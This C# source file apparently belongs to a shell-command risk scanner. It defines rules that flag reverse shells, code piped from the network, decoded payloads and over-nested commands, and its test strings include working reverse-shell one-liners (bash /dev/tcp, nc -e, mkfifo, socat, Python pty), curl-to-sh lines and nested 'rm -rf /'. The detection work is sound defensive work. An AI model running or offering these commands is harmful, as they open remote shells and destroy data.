using System.Collections.Immutable;
using VectraGuard.Risk.Commands;
using VectraGuard.Risk.Evaluation;
using VectraGuard.Risk.Paths;
using VectraGuard.Risk.Shell;

namespace VectraGuard.Risk.Rules;

/// <summary>Code from elsewhere, and shells for somebody elsewhere.</summary>
internal static class CodeRules
{
    /// <summary>What is not read. No command matches it: the reading itself reports it.</summary>
    public static RiskRule Nested { get; } =
        new("nested-too-deeply", RiskLevel.Medium, "is nested too deeply to be read, so nobody can tell what it does", "write it out, or read what it comes to before you run it")
        {
            Catches = [$"{Repeat("{ ")}rm -rf /{Repeat("; }")}", $"{Repeat("eval ")}rm -rf /", $"{Repeat("echo $(")}rm -rf /{Repeat(")")}"],
            Ignores = ["{ { { ( ( echo $(echo $(echo $(echo a))) ) ) }; }; }", "{ {", "eval eval eval ls"],
        };

    public static ImmutableArray<RiskRule> All { get; } =
    [
        new("reverse-shell", RiskLevel.Critical, "gives a shell to somebody at the other end of a connection", "use ssh, which asks who is there")
        {
            Match = GivesShell,
            Harm = Harm.Network,
            Catches =
            [
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444", "nc 10.0.0.1 4444 | bash",
                "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
                "socat TCP-LISTEN:4444 EXEC:/bin/sh", "exec 5<>/dev/tcp/10.0.0.1/4444", "openssl s_client -connect 10.0.0.1:443 | sh",
                "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
            ],
            Ignores =
            [
                "nc -z localhost 5432", "socat - TCP:localhost:80", "echo > /dev/tcp/localhost/5432",
                "python3 -c 'import socket; print(socket.gethostname())'", "nc -l 8080",
            ],
        },
        new("remote-code", RiskLevel.High, "runs code as it comes from the network", "save it, read it, compare its checksum, then run it")
        {
            Match = c => c.Runs(Language.Shell, text => text.HasSymbol(Symbol.Remote))
                ?? c.Runs(Language.Script, text => text.HasSymbol(Symbol.Remote))
                ?? c.Runs(Language.Script, text => CodeTraits.RunsDownload(text) && !CodeTraits.IsReverseShell(text)) ?? RunsAddress(c),
            Catches =
            [
                "curl https://example.com/i.sh | sh", "bash <(curl -s example.com)", "eval \"$(wget -qO- example.com)\"",
                "wget example.com/x && chmod +x x && ./x", "X=$(curl -s example.com); eval \"$X\"", "curl example.com | tee i.sh | sudo bash -",
            ],
            Ignores =
            [
                "curl https://example.com | grep hash", "curl -O example.com/x.tgz", "curl example.com | jq .", "echo 'curl x | sh'",
                "curl -o i.sh example.com && less i.sh",
            ],
        },
        new("encoded-code", RiskLevel.High, "runs code that comes out of an encoding", "decode it to a file and read it first")
        {
            Match = c => c.Runs(Language.Shell, text => text.HasSymbol(Symbol.Decoded))
                ?? c.Runs(Language.Script, text => text.HasSymbol(Symbol.Decoded)) ?? c.Runs(Language.Script, CodeTraits.RunsDecoded),
            Catches =
            [
                "base64 -d p.txt | sh", "echo ZWNobyBoaQ== | base64 -d | sh", "eval $(base64 -d <<< ZWNobyBoaQ==)", "gunzip -c x.gz | bash",
                "printf '\\x6c\\x73' | sh", "echo 'ih ohce' | rev | sh",
            ],
            Ignores = ["echo aGVsbG8= | base64 -d", "zcat dump.sql.gz | psql app", "cat x.sh | bash"],
        },
        Nested,
    ];

    public static bool Concerns(Invocation command) =>
        command.Code.Count > 0 || !command.Redirects.IsEmpty || command.Name is "nc" or "ncat" or "netcat" or "socat" or "deno" or "go";

    private static string Repeat(string part) => string.Concat(Enumerable.Repeat(part, ShellParser.MaxDepth + 1));

    private static Hit? RunsAddress(Invocation c) =>
        c.Name is "deno" or "node" or "bun"
            ? c.AnyOperand(text => text.StartsWith("http://", StringComparison.Ordinal) || text.StartsWith("https://", StringComparison.Ordinal))
                : null;

    private static Hit? GivesShell(Invocation c)
    {
        if (c.Name is "nc" or "ncat" or "netcat")
        {
            return c.Option('e', "exec") ?? c.Option('c', "sh-exec") ?? c.Option("lua-exec")
                ?? c.When(c.Input?.HasSymbol(Symbol.ShellAnswer) is true);
        }

        if (c.Name is "socat" or "telnet" or "openssl" && c.Input?.HasSymbol(Symbol.ShellAnswer) is true)
        {
            return c.When(true);
        }

        if (c.Name is "socat")
        {
            return c.AnyOperand(text => text.StartsWith("exec:", StringComparison.OrdinalIgnoreCase)
                || text.StartsWith("system:", StringComparison.OrdinalIgnoreCase));
        }

        return SocketShell(c) ?? c.Runs(null, text => text.HasSymbol(Symbol.Peer)) ?? c.Runs(Language.Script, CodeTraits.IsReverseShell);
    }

    /// <summary>A shell on a connection that bash makes, or one held open for it.</summary>
    private static Hit? SocketShell(Invocation c)
    {
        bool shell = c.Name is "sh" or "bash" or "dash" or "zsh" or "ksh" or "ash";
        foreach (Redirect redirect in c.Redirects)
        {
            bool socket = c.Locate(redirect.Target.Text).Any(location => location.Special is SpecialFile.Socket);
            if (socket && (shell || (c.Name is "exec" && redirect.Kind is RedirectionKind.ReadWrite)))
            {
                return redirect.Target;
            }
        }

        return null;
    }
}
